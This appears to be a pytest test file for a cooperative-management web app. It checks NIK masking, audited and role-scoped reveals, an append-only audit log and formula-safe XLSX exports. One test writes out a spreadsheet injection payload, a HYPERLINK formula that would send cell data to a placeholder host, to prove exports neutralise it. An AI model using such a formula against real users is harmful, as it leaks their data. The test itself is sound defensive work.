"""NIK privacy and the audit log: masked everywhere, revealed only on purpose and on the record."""
import re

from sqlalchemy import select, text

from app.cooperatives.models import Cooperative, OrganMember
from app.core.audit import AuditEvent
from app.core.nik import check_nik, mask_nik, normalise_nik

OWN = "31.73.05.1001"


def member_of(sysdb, code=OWN):
    coop_id = sysdb.scalar(select(Cooperative.id).where(Cooperative.region_code == code))
    return sysdb.scalar(select(OrganMember).where(OrganMember.cooperative_id == coop_id,
                                                  OrganMember.organ == "pengurus").order_by(OrganMember.id))


def test_nik_is_normalised_from_spaces_and_full_width_digits_and_masked():
    assert normalise_nik("３１７３ ０５１２-０１９０.０００９") == "3173051201900009"
    assert check_nik(" 3173 0512 0190 0009 ") == "3173051201900009"
    # the serial only: the region is near the domicile shown beside it, the middle six are the birth date
    assert mask_nik("3273050101900009") == "••••••••••••0009"


def test_lists_and_show_pages_mask_the_nik_for_every_role(login, sysdb):
    m = member_of(sysdb)
    for username in ("admin", "sekretaris.kebonjeruk", "lurah.kebonjeruk", "sudin.jakbar"):
        s = login(username)
        for url in ("/pengurus-pengawas/list/?psize_OrganMemberView=100", f"/pengurus-pengawas/show/{m.id}"):
            html = s.get(url).get_data(as_text=True)
            assert m.nik not in html, (username, url)
        assert mask_nik(m.nik) in s.get(f"/pengurus-pengawas/show/{m.id}").get_data(as_text=True)
    edit = login("sekretaris.kebonjeruk").get(f"/pengurus-pengawas/edit/{m.id}").get_data(as_text=True)
    assert m.nik not in edit


def test_revealing_a_nik_is_an_explicit_action_that_writes_an_audit_row(login, sysdb):
    m = member_of(sysdb)
    s = login("sekretaris.kebonjeruk")
    before = sysdb.scalar(select(AuditEvent.id).order_by(AuditEvent.id.desc())) or 0
    assert s.client.get(f"/pengurus-pengawas/nik/{m.id}").status_code == 405  # never over GET
    r = s.post(f"/pengurus-pengawas/nik/{m.id}", {}, form_url=f"/pengurus-pengawas/show/{m.id}")
    assert r.status_code == 200 and m.nik in r.get_data(as_text=True)
    assert r.headers["Cache-Control"] == "no-store"
    event = sysdb.scalar(select(AuditEvent).where(AuditEvent.id > before, AuditEvent.action == "nik_reveal"))
    assert event.username == "sekretaris.kebonjeruk" and event.record_id == str(m.id)
    assert m.nik not in event.after and mask_nik(m.nik) in event.after


def test_lurah_and_camat_cannot_reveal_and_nobody_reveals_outside_their_area(login, sysdb):
    m = member_of(sysdb)
    for username in ("lurah.kebonjeruk", "camat.kebonjeruk"):
        s = login(username)
        assert "Tampilkan NIK" not in s.get(f"/pengurus-pengawas/show/{m.id}").get_data(as_text=True)
        r = s.post(f"/pengurus-pengawas/nik/{m.id}", {}, form_url="/")
        assert r.status_code == 403 and m.nik not in r.get_data(as_text=True)
    foreign = member_of(sysdb, "35.73.03.1010")
    r = login("sekretaris.kebonjeruk").post(f"/pengurus-pengawas/nik/{foreign.id}", {}, form_url="/")
    assert r.status_code == 404


def test_every_change_is_audited_with_before_and_after_and_the_nik_masked(login, sysdb):
    m = member_of(sysdb)
    s = login("sekretaris.kebonjeruk")
    form = {"organ": m.organ, "position": m.position, "name": m.name, "nik": "", "gender": m.gender,
            "term_start": m.term_start.isoformat(), "term_end": m.term_end.isoformat(), "phone": "0812-1111-2222"}
    r = s.post(f"/pengurus-pengawas/edit/{m.id}", form)
    assert r.status_code == 302
    sysdb.expire_all()
    assert sysdb.get(OrganMember, m.id).nik == m.nik  # blank kept the stored NIK
    event = sysdb.scalar(select(AuditEvent).where(AuditEvent.table_name == "organ_member",
                                                 AuditEvent.record_id == str(m.id), AuditEvent.action == "update")
                         .order_by(AuditEvent.id.desc()))
    assert event.username == "sekretaris.kebonjeruk"
    assert '"phone": "+6281211112222"' in event.after and '"phone": null' in event.before
    assert event.cooperative_id == m.cooperative_id
    # Audit timestamps are UTC and close to now.
    from datetime import datetime, timezone
    assert abs((datetime.now(timezone.utc).replace(tzinfo=None) - event.occurred_at).total_seconds()) < 120


def test_the_audit_log_is_append_only(app, sysdb, login):
    from app.core.audit import AuditLogImmutable
    from app.core.scope import system_scope
    from app.extensions import db

    event_id = sysdb.scalar(select(AuditEvent.id).order_by(AuditEvent.id))
    with app.app_context(), system_scope():
        row = db.session.get(AuditEvent, event_id)
        row.action = "tampered"
        try:
            db.session.flush()
            raise AssertionError("ORM update of an audit row was allowed")
        except AuditLogImmutable:
            db.session.rollback()
        for statement in ("UPDATE audit_event SET action='x' WHERE id=:id", "DELETE FROM audit_event WHERE id=:id"):
            try:
                with db.engine.begin() as conn:
                    conn.execute(text(statement), {"id": event_id})
                raise AssertionError(f"raw SQL allowed: {statement}")
            except AssertionError:
                raise
            except Exception:
                pass
        db.session.remove()
    s = login("admin")
    assert s.get("/log-audit/list/").status_code == 200
    assert s.get(f"/log-audit/edit/{event_id}").status_code in (403, 404)
    assert s.post(f"/log-audit/delete/{event_id}", {}, form_url="/").status_code in (403, 404, 405)
    assert sysdb.get(AuditEvent, event_id).action != "x"


def test_sudin_sees_the_audit_of_their_city_only(login, sysdb):
    lempake = sysdb.scalar(select(Cooperative.id).where(Cooperative.region_code == "64.72.05.1003"))
    kebon_jeruk = sysdb.scalar(select(Cooperative.id).where(Cooperative.region_code == OWN))
    foreign = sysdb.scalar(select(AuditEvent.id).where(AuditEvent.cooperative_id == lempake))
    own = sysdb.scalar(select(AuditEvent.id).where(AuditEvent.cooperative_id == kebon_jeruk))
    s = login("sudin.jakbar")
    assert s.get(f"/log-audit/show/{foreign}").status_code == 404
    assert s.get(f"/log-audit/show/{own}").status_code == 200
    html = s.get("/log-audit/list/?psize_AuditEventView=500").get_data(as_text=True)
    assert f"/log-audit/show/{foreign}\"" not in html
    assert login("camat.kebonjeruk").get("/log-audit/list/").status_code == 403


def test_exports_mask_the_nik_and_never_carry_formulas(login, sysdb):
    import io

    from openpyxl import load_workbook

    m = member_of(sysdb)
    s = login("sekretaris.kebonjeruk")
    form = {"organ": m.organ, "position": m.position, "name": '=HYPERLINK("http://x.example/?"&A1,"klik")',
            "nik": "", "gender": m.gender, "term_start": m.term_start.isoformat(),
            "term_end": m.term_end.isoformat(), "phone": "+62 812 3456 7890"}
    assert s.post(f"/pengurus-pengawas/edit/{m.id}", form).status_code == 302
    r = s.get("/pengurus-pengawas/export/xlsx")
    assert r.status_code == 200
    wb = load_workbook(io.BytesIO(r.data))
    cells = [c for row in wb.active.iter_rows() for c in row if c.value is not None]
    texts = [str(c.value) for c in cells]
    assert m.nik not in "\n".join(texts) and mask_nik(m.nik) in texts
    # A text cell is never evaluated, so it reads back exactly as typed (no apostrophe: that is CSV's guard).
    hyperlink = [c for c in cells if "HYPERLINK" in str(c.value)][0]
    assert hyperlink.data_type == "s" and hyperlink.value == form["name"]
    assert all(c.data_type != "f" for c in cells)
